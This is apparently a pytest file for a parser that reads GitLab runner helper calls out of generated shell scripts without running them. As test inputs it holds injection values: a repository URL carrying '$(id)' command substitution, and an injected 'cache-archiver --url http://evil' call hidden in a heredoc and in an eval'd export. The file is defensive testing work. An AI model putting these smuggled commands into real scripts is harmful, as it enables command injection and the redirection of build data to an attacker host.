"""What a runner's script asks for, read without a shell."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from crestline.testing.gitlab_runner import Quoting
from crestline_gitlab_runner.failures import BuildFailureError
from crestline_gitlab_runner.runner_script import helper_calls, repository_url

CORPUS = tomllib.loads((Path(__file__).parents[1] / "security" / "corpus.toml").read_text())
VALUES = [
    *(text for texts in CORPUS.values() for text in texts),
    "",
    "ü€😀",
    'a\\\\n"',
    "\x7f\x01",
    "\udcff",
    "if",
    "fi\n",
]


@pytest.mark.parametrize("version", ["14.7.0", "15.4.0", "15.6.0", "18.5.0", "19.3.0"])
def test_arguments_come_back_as_they_were(version: str) -> None:
    quoting = Quoting(version)
    for value in VALUES:
        lines = [
            f"if {quoting.command('gitlab-runner', '--version')} >/dev/null 2>&1; then",
            quoting.command("gitlab-runner", "artifacts-uploader", "--path", value, "--name", value),
            "else",
            "echo 'Missing'",
            "fi",
            f"if {quoting.command('gitlab-runner', 'cache-extractor', '--file', value)}; then",
            "echo yes",
            "fi",
        ]
        first, second = helper_calls(quoting.wrap(lines))
        assert (first.command, first.value("path"), first.value("name")) == ("artifacts-uploader", value, value)
        assert (second.command, second.value("file")) == ("cache-extractor", value)


def test_a_value_that_looks_like_an_option_is_a_value() -> None:
    words = ["--url", "https://gitlab.example/", "--path", "--url", "--path", "--untracked", "--name", "--token"]
    (call,) = helper_calls(
        Quoting("14.7.0").wrap([Quoting("14.7.0").command("gitlab-runner", "artifacts-uploader", *words)])
    )
    assert (call.value("url"), call.values("path")) == ("https://gitlab.example/", ["--url", "--untracked"])
    assert (call.value("name"), call.value("token"), call.has("untracked")) == ("--token", "", False)


def test_here_documents_are_passed_over() -> None:
    lines = [
        "cat << EOF > /b/p.tmp/env",
        'CACHE_METADATA=\'{"cachekey":"a\'b',
        "gitlab-runner cache-archiver --url http://evil",
        "EOF",
    ]
    lines += ["if gitlab-runner cache-archiver --file f --env-file /b/p.tmp/env; then", "echo", "fi"]
    (call,) = helper_calls(Quoting("19.3.0").wrap(lines))
    assert (call.value("file"), call.value("url")) == ("f", "")


def test_fallbacks_stand_deeper() -> None:
    lines = ["if true; then", "if gitlab-runner cache-extractor --file a; then", "echo", "else"]
    lines += ["if gitlab-runner cache-extractor --file b; then", "echo", "fi", "fi", "fi"]
    lines += ["if true; then", "if gitlab-runner cache-extractor --file c; then", "echo", "fi", "fi"]
    calls = helper_calls(Quoting("19.3.0").wrap(lines))
    assert [(call.value("file"), call.depth) for call in calls] == [("a", 2), ("b", 3), ("c", 2)]


def test_the_repositorys_address() -> None:
    for version in ("14.7.0", "19.3.0"):
        quoting = Quoting(version)
        command = quoting.command("git", "remote", "add", "origin", "https://gitlab.example/$(id)/x.git")
        lines = ["export A=b", f"if {command} >/dev/null 2>&1; then", 'git "unbalanced']
        assert repository_url(quoting.wrap(lines)) == "https://gitlab.example/$(id)/x.git"
    assert repository_url(Quoting("19.3.0").wrap(["true"])) is None


def test_quoting_that_does_not_protect_is_refused() -> None:
    script = (
        b'#!/usr/bin/env bash\n: | eval "export A=\\"x;gitlab-runner cache-archiver --url http://evil\\""\nexit 0\n'
    )
    with pytest.raises(BuildFailureError, match="FF_POSIXLY_CORRECT_ESCAPES"):
        helper_calls(script)
